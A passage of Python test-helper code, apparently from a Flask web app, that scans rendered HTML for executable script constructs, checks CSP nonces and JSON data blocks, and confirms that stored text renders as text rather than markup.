        kind_type = values.get("type", "").strip().lower()
        nonce = values.get("nonce")
        if kind_type in JSON_SCRIPT_TYPES:
            script = _Script(pos, nonce, "json", "")
        elif "src" in values:
            if self._static_src(values["src"]):
                script = _Script(pos, nonce, "static", "")
            else:
                script = _Script(pos, nonce, "foreign", f"<script src={values['src'][:60]!r}> not from /static/")
        elif nonce is not None:
            script = _Script(pos, nonce, "nonce", "")
        else:
            script = _Script(pos, None, "foreign", "<script> without src, nonce or JSON type")
        self.scripts.append(script)
        return script

    def _close_raw(self, end: int) -> None:
        tag, body_start, script = self._raw
        self._raw = None
        body = self.source[body_start:end]
        if tag == "style":
            for css in css_problems(body):
                self._add(f"<style> element: {css}", body_start)
            self._scan_hidden(body, body_start, "<style> element")
            return
        if script is None or script.kind == "foreign":
            return  # already reported
        if re.search(r"</script", body, re.I):
            self._add("'</script' inside a script block (a browser ends the block there)", body_start)
        if "<!--" in body:
            self._add("'<!--' inside a script block (script-data-escaped state)", body_start)
        if script.kind == "json":
            if re.search(r"<script", body, re.I):
                self._add("'<script' inside a JSON data block", body_start)
            try:
                json.loads(body)
            except ValueError:
                self._add("JSON data block is not valid JSON (cut short by markup?)", body_start)


def _scan(html: str, nonce: str | None, static_prefixes: tuple[str, ...]) -> list[Problem]:
    scanner = _Scanner(html, static_prefixes)
    scanner.feed(html)
    scanner.close()
    problems = scanner.problems

    for script in scanner.scripts:
        if script.kind == "foreign":
            problems.append(Problem(f"script element that is not ours: {script.detail}", script.offset))

    # Nonces: with an explicit nonce every nonced inline script must carry exactly it. Without one, the
    # page nonce is the most common nonce on the page; others, and suspiciously short ones, are reported.
    nonced = [s for s in scanner.scripts if s.kind == "nonce"]
    if nonced:
        if nonce is not None:
            expected = nonce
        else:
            counts = Counter(s.nonce for s in nonced).most_common()
            expected = counts[0][0] if len(counts) == 1 or counts[0][1] > counts[1][1] else None
        for script in nonced:
            if script.nonce != expected:
                problems.append(Problem(f"inline script with a foreign nonce {script.nonce!r}", script.offset))
            elif nonce is None and len(script.nonce or "") < MIN_INFERRED_NONCE_LENGTH:
                problems.append(Problem(
                    f"inline script nonce {script.nonce!r} is too short to be a per-request nonce", script.offset))
    return sorted(problems, key=lambda p: p.offset)


def find_executable(html: str, *, nonce: str | None = None,
                    static_prefixes: tuple[str, ...] = ("/static/",)) -> list[str]:
    """Human-readable problems: everything in `html` a browser could execute. Empty list = safe.

    `nonce` is the page's CSP script nonce (see `nonce_from_csp`); without it the most common nonce on the
    page is taken as ours. Scripts are ours when loaded from `static_prefixes`, when they carry the nonce,
    or when they are JSON data blocks (which are checked for `</script`, `<!--` and valid JSON).
    """
    return [str(p) for p in _scan(html, nonce, static_prefixes)]


def assert_safe(html: str, where: str = "", *, nonce: str | None = None,
                static_prefixes: tuple[str, ...] = ("/static/",)) -> None:
    """Raise AssertionError listing every executable construct in `html`, each with 200 chars of context."""
    problems = _scan(html, nonce, static_prefixes)
    if not problems:
        return
    lines = [f"{len(problems)} executable construct(s) in {where or 'the page'}:"]
    for problem in problems:
        snippet = html[max(0, problem.offset - 100):problem.offset + 100]
        lines.append(f"- {problem}\n    context: {snippet!r}")
    raise AssertionError("\n".join(lines))


def assert_response_safe(response, where: str = "") -> None:
    """`assert_safe` on a Flask/Werkzeug response, taking the script nonce from its CSP header."""
    nonce = nonce_from_csp(response.headers.get("Content-Security-Policy"))
    assert_safe(response.get_data(as_text=True), where, nonce=nonce)


class _TextCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.runs: list[str] = []
        self._current: list[str] = []
        self._skip = 0

    def _end_run(self):
        if self._current:
            self.runs.append("".join(self._current))
            self._current = []

    def handle_starttag(self, tag, attrs):
        self._end_run()
        self.runs.extend(value for _, value in attrs if value)
        if tag in ("script", "style"):
            self._skip += 1

    def handle_startendtag(self, tag, attrs):
        self._end_run()
        self.runs.extend(value for _, value in attrs if value)

    def handle_endtag(self, tag):
        self._end_run()
        if tag in ("script", "style") and self._skip:
            self._skip -= 1

    def handle_data(self, data):
        if not self._skip:
            self._current.append(data)

    def close(self):
        super().close()
        self._end_run()


def contains_marker_intact(html: str, payload: str) -> bool:
    """True when `payload` is shown as text (in one text run or attribute value) rather than parsed as markup.

    Tolerates what a form layer may legitimately do to stored text: stripping surrounding whitespace,
    normalising line endings and dropping NUL characters (PostgreSQL cannot store them).
    """
    collector = _TextCollector()
    collector.feed(html)
    collector.close()
    runs = [run.replace("\r\n", "\n").replace("\r", "\n") for run in collector.runs]
    base = payload.replace("\r\n", "\n").replace("\r", "\n")
    candidates = {base, base.strip(), base.replace("\x00", ""), base.replace("\x00", "").strip()}
    candidates.discard("")
    return any(candidate in run for candidate in candidates for run in runs)
